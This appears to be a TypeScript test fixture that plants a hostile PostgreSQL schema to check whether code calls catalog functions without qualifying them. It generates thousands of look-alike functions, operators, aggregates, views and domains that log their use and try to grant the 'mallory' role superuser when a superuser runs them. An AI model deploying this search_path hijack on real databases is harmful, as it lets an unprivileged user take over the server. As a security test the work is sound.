/**
 * A schema full of things that could be taken for the server's own: functions, operators, aggregates, types and views. Each of them writes
 * to the server's log that it was used, tries to make its owner a superuser, and then does what it is taken for.
 */
import { readFileSync } from "node:fs";
import { randomBytes } from "node:crypto";
import { Client } from "pg";
import { eventually } from "./wait.ts";

export const attacker = "mallory";

const mark = "SHADOW";

/** What it is that was used, in any schema. */
const hit = (
  schema: string,
) => `CREATE FUNCTION ${schema}.hit(what pg_catalog.text) RETURNS boolean LANGUAGE plpgsql AS $f$
BEGIN
  RAISE WARNING '${mark} %', what;
  BEGIN
    IF (SELECT r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname OPERATOR(pg_catalog.=) current_user) THEN
      ALTER ROLE ${attacker} SUPERUSER;
    END IF;
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  RETURN true;
END $f$`;

/** Arguments that stand for several types, and the types that they are asked with. */
const elements = "int2 int4 int8 float8 text jsonb bool timestamptz oid name numeric".split(" ");

/** Types that operands of ours have. */
const operands =
  "int2 int4 int8 float8 numeric text name json jsonb timestamptz interval oid xid8 int8[] text[]".split(" ");

const symbols = "= <> < <= > >= + - * / || -> ->> & | << >> ~~".split(" ");

/** Runs statements one by one and passes over those that are refused. */
const each = (query: string) => `DO $do$
DECLARE one pg_catalog.text;
BEGIN
  FOR one IN ${query} LOOP
    BEGIN EXECUTE one; EXCEPTION WHEN OTHERS THEN NULL; END;
  END LOOP;
END $do$`;

const q = (text: string) => `'${text.replaceAll("'", "''")}'`;

/** Better matches than the server's own: with the default path nothing else is preferred to these. */
function closer(schema: string): string[] {
  const listed = `(VALUES ${elements.map((type) => `(${q(type)})`).join(", ")}) e (t)`;
  const types = `unnest(ARRAY[${operands.map(q).join(", ")}])`;
  return [
    hit(schema),
    // anyarray as bigint[], anyelement as bigint, and so on.
    each(`SELECT format('CREATE FUNCTION ${schema}.%I(%s) RETURNS %s LANGUAGE plpgsql AS $f$ BEGIN PERFORM ${schema}.hit(%L); RETURN %s; END $f$',
      p.proname, a.args, a.result, format('%s(%s)', p.proname, a.args),
      CASE WHEN p.proretset THEN 'QUERY SELECT * FROM ' ELSE '' END || format('pg_catalog.%I(%s)', p.proname, a.names))
      FROM pg_proc p, ${listed}, LATERAL (SELECT
        string_agg(x.concrete, ', ' ORDER BY x.n) AS args, string_agg('$' || x.n, ', ' ORDER BY x.n) AS names,
        CASE WHEN p.proretset THEN 'SETOF ' ELSE '' END || CASE format_type(p.prorettype, NULL)
          WHEN 'anyarray' THEN e.t || '[]' WHEN 'anycompatiblearray' THEN e.t || '[]'
          WHEN 'anyelement' THEN e.t WHEN 'anynonarray' THEN e.t WHEN 'anycompatible' THEN e.t ELSE 'pg_catalog.' || y.typname END AS result
        FROM (SELECT o.n, CASE format_type(o.type, NULL) WHEN 'anyarray' THEN e.t || '[]' WHEN 'anycompatiblearray' THEN e.t || '[]'
            WHEN 'anyelement' THEN e.t WHEN 'anynonarray' THEN e.t WHEN 'anycompatible' THEN e.t ELSE format_type(o.type, NULL) END AS concrete
          FROM unnest(p.proargtypes) WITH ORDINALITY o (type, n)) x JOIN pg_type y ON y.oid = p.prorettype GROUP BY y.typname) a
      WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f' AND p.provariadic = 0 AND p.proallargtypes IS NULL
        AND EXISTS (SELECT FROM unnest(p.proargtypes) t WHERE t::regtype::text ~ '^any(array|element|nonarray|compatible|compatiblearray)$')`),
    // Smaller numbers, and what else would be converted without a word.
    each(`SELECT format('CREATE FUNCTION ${schema}.%I(%s) RETURNS %s LANGUAGE plpgsql AS $f$ BEGIN PERFORM ${schema}.hit(%L); RETURN pg_catalog.%I(%s); END $f$',
      p.proname, a.args, format_type(p.prorettype, NULL), format('%s(%s)', p.proname, a.args), p.proname, a.names)
      FROM pg_proc p, (VALUES ('bigint', 'integer'), ('double precision', 'integer'), ('double precision', 'numeric'), ('numeric', 'integer'),
          ('text', 'name'), ('text', 'varchar'), ('text', 'unknown')) c (wide, narrow),
        LATERAL (SELECT string_agg(CASE format_type(o.type, NULL) WHEN c.wide THEN c.narrow ELSE format_type(o.type, NULL) END, ', ' ORDER BY o.n) AS args,
          string_agg('$' || o.n, ', ' ORDER BY o.n) AS names FROM unnest(p.proargtypes) WITH ORDINALITY o (type, n)) a
      WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f' AND NOT p.proretset AND p.provariadic = 0 AND p.pronargs BETWEEN 1 AND 4
        AND EXISTS (SELECT FROM unnest(p.proargtypes) t WHERE format_type(t, NULL) = c.wide)`),
    // concat(…), format(…), json_build_object(…), which take anything.
    each(`SELECT format('CREATE FUNCTION ${schema}.%I(%s) RETURNS %s LANGUAGE plpgsql AS $f$ BEGIN PERFORM ${schema}.hit(%L); RETURN pg_catalog.%I(%s); END $f$',
      p.proname, a.args, format_type(p.prorettype, NULL), p.proname, p.proname, a.names)
      FROM pg_proc p, generate_series(1, 5) n, (VALUES ('text'), ('int4'), ('int8')) e (t), LATERAL (SELECT
        string_agg(CASE WHEN i = 1 AND p.proname IN ('format', 'concat_ws') THEN 'text' ELSE e.t END, ', ') AS args, string_agg('$' || i, ', ') AS names FROM generate_series(1, n) i) a
      WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.provariadic = '"any"'::regtype AND p.prokind = 'f'`),
    // Operators: for each pair of types, whatever the server has for others.
    each(`SELECT format('CREATE FUNCTION ${schema}.%I(%s, %s) RETURNS boolean LANGUAGE plpgsql AS $f$ BEGIN PERFORM ${schema}.hit(%L); RETURN NULL; END $f$',
      'pair ' || l || ' ' || r, l, r, 'operator (' || l || ', ' || r || ')') FROM ${types} l, ${types} r`),
    each(`SELECT format('CREATE OPERATOR ${schema}.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = ${schema}.%I)', s, l, r, 'pair ' || l || ' ' || r)
      FROM unnest(ARRAY[${symbols.map(q).join(", ")}]) s, ${types} l, ${types} r
      WHERE NOT EXISTS (SELECT FROM pg_operator o WHERE o.oprname = s AND o.oprleft = l::regtype AND o.oprright = r::regtype AND o.oprnamespace = 'pg_catalog'::regnamespace)`),
  ];
}

/** The same names, with the same arguments: for a path that has this schema before the server's own. */
function same(schema: string): string[] {
  return [
    each(`SELECT format('CREATE FUNCTION ${schema}.%I(%s) RETURNS %s LANGUAGE plpgsql AS $f$ BEGIN PERFORM ${schema}.hit(%L); RETURN %s; END $f$',
      p.proname, a.args, pg_get_function_result(p.oid), p.oid::regprocedure,
      CASE WHEN p.proretset THEN 'QUERY SELECT * FROM ' ELSE '' END || format('pg_catalog.%I(%s)', p.proname, a.names))
      FROM pg_proc p, LATERAL (SELECT string_agg(CASE WHEN o.n = p.pronargs AND p.provariadic <> 0 THEN 'VARIADIC ' ELSE '' END || format_type(o.type, NULL), ', ' ORDER BY o.n) AS args,
        string_agg(CASE WHEN o.n = p.pronargs AND p.provariadic <> 0 THEN 'VARIADIC ' ELSE '' END || '$' || o.n, ', ' ORDER BY o.n) AS names
        FROM unnest(p.proargtypes) WITH ORDINALITY o (type, n)) a
      WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f' AND p.proname <> 'hit'`),
    each(`SELECT format('CREATE FUNCTION ${schema}.%I(state int, %s) RETURNS int LANGUAGE plpgsql AS $f$ BEGIN PERFORM ${schema}.hit(%L); RETURN 1; END $f$',
      'step of ' || p.oid, pg_get_function_identity_arguments(p.oid), p.oid::regprocedure) FROM pg_proc p
      WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'a' AND p.pronargs > 0`),
    each(`SELECT format('CREATE AGGREGATE ${schema}.%I(%s) (SFUNC = ${schema}.%I, STYPE = int, INITCOND = ''0'')', p.proname, pg_get_function_identity_arguments(p.oid), 'step of ' || p.oid)
      FROM pg_proc p WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'a' AND p.pronargs > 0`),
    `CREATE FUNCTION ${schema}.counting(state int) RETURNS int LANGUAGE plpgsql AS $f$ BEGIN PERFORM ${schema}.hit('count(*)'); RETURN state OPERATOR(pg_catalog.+) 1; END $f$`,
    `CREATE AGGREGATE ${schema}.count(*) (SFUNC = ${schema}.counting, STYPE = int, INITCOND = '0')`,
    each(`SELECT format('CREATE FUNCTION ${schema}.%I(%s) RETURNS %s LANGUAGE plpgsql AS $f$ BEGIN PERFORM ${schema}.hit(%L); RETURN %s; END $f$',
      'operator ' || o.oid, concat_ws(', ', nullif(format_type(nullif(o.oprleft, 0), NULL), '???'), format_type(o.oprright, NULL)), format_type(o.oprresult, NULL), o.oid::regoperator,
      CASE WHEN o.oprleft = 0 THEN format('OPERATOR(pg_catalog.%s) $1', o.oprname) ELSE format('$1 OPERATOR(pg_catalog.%s) $2', o.oprname) END)
      FROM pg_operator o WHERE o.oprnamespace = 'pg_catalog'::regnamespace`),
    each(`SELECT format('CREATE OPERATOR ${schema}.%s (%s RIGHTARG = %s, FUNCTION = ${schema}.%I)', o.oprname,
      CASE WHEN o.oprleft <> 0 THEN format('LEFTARG = %s,', format_type(o.oprleft, NULL)) END, format_type(o.oprright, NULL), 'operator ' || o.oid)
      FROM pg_operator o WHERE o.oprnamespace = 'pg_catalog'::regnamespace`),
    each(`SELECT format('CREATE VIEW ${schema}.%I AS SELECT * FROM pg_catalog.%I WHERE ${schema}.hit(%L)', c.relname, c.relname, c.relname)
      FROM pg_class c WHERE c.relnamespace = 'pg_catalog'::regnamespace AND c.relkind IN ('r', 'v')`),
    // Last: from here on these names are taken for those of the schema wherever it comes first.
    each(`SELECT format('CREATE DOMAIN ${schema}.%I AS pg_catalog.%I CHECK (${schema}.hit(%L))', t.typname, t.typname, 'type ' || t.typname)
      FROM pg_type t WHERE t.typnamespace = 'pg_catalog'::regnamespace AND t.typtype = 'b' AND t.typcategory <> 'A' AND t.typname !~ '^pg_'`),
  ];
}

export interface Hostile {
  /** What was used since it was asked last. */
  used(): Promise<string[]>;
  /** Whether the attacker has become a superuser. */
  isSuper(): Promise<boolean>;
}

/** The settings of a server on which this can be seen. */
export const hostileSettings = (folder: string) => ({
  logging_collector: "on",
  log_directory: folder,
  log_filename: "hits.log",
  log_min_messages: "warning",
  log_error_verbosity: "default",
});

/** `url`: of a superuser. The attacker may create things in `public`, as everybody could before PostgreSQL 15, and in `evil`. */
export async function hostile(url: string, folder: string): Promise<Hostile> {
  const ask = async (statements: readonly string[], role?: string) => {
    const client = new Client({ connectionString: url });
    client.on("notice", () => {});
    await client.connect();
    try {
      if (role) await client.query(`SET SESSION AUTHORIZATION ${role}`);
      await client.query("SET search_path = pg_catalog");
      let rows: Record<string, unknown>[] = [];
      for (const statement of statements) ({ rows } = await client.query(statement));
      return rows;
    } finally {
      await client.end();
    }
  };
  await ask([
    `DO $$ BEGIN CREATE ROLE ${attacker} LOGIN; EXCEPTION WHEN duplicate_object THEN NULL; END $$`,
    `GRANT CREATE ON SCHEMA public TO ${attacker}`,
    `CREATE SCHEMA evil AUTHORIZATION ${attacker}`,
    "GRANT USAGE ON SCHEMA evil TO public",
  ]);
  await ask([...closer("public"), hit("evil"), ...same("evil")], attacker);
  let read = 0;
  return {
    async used() {
      // Every message goes through one pipe: what was written before this one is in the file before it.
      const end = `END ${randomBytes(8).toString("hex")}`;
      await ask([`DO $$ BEGIN RAISE WARNING '${end}'; END $$`]);
      let text = "";
      await eventually(() => {
        text = readFileSync(`${folder}/hits.log`, "utf8");
        if (!text.includes(`WARNING:  ${end}`)) throw new Error("not yet");
      });
      const fresh = text.slice(read);
      read = text.length;
      const lines = fresh.split("\n");
      return lines.flatMap((line, i) => {
        const [, what] = new RegExp(`WARNING:  ${mark} (.*)`).exec(line) ?? [];
        if (what === undefined) return [];
        const later = lines.slice(i, i + 60);
        const from = later.findIndex((each) => each.includes("STATEMENT:"));
        const context = later
          .filter((each) => each.startsWith("\t") || each.includes("CONTEXT:"))
          .slice(0, 5);
        return [
          `${what} <- ${context.join(" ").slice(0, 300)} <- ${
            from < 0
              ? "?"
              : later
                  .slice(from, from + 2)
                  .join(" ")
                  .slice(0, 300)
          }`,
        ];
      });
    },
    async isSuper() {
      const [row] = await ask([`SELECT rolsuper FROM pg_roles WHERE rolname = '${attacker}'`]);
      return row?.["rolsuper"] === true;
    },
  };
}
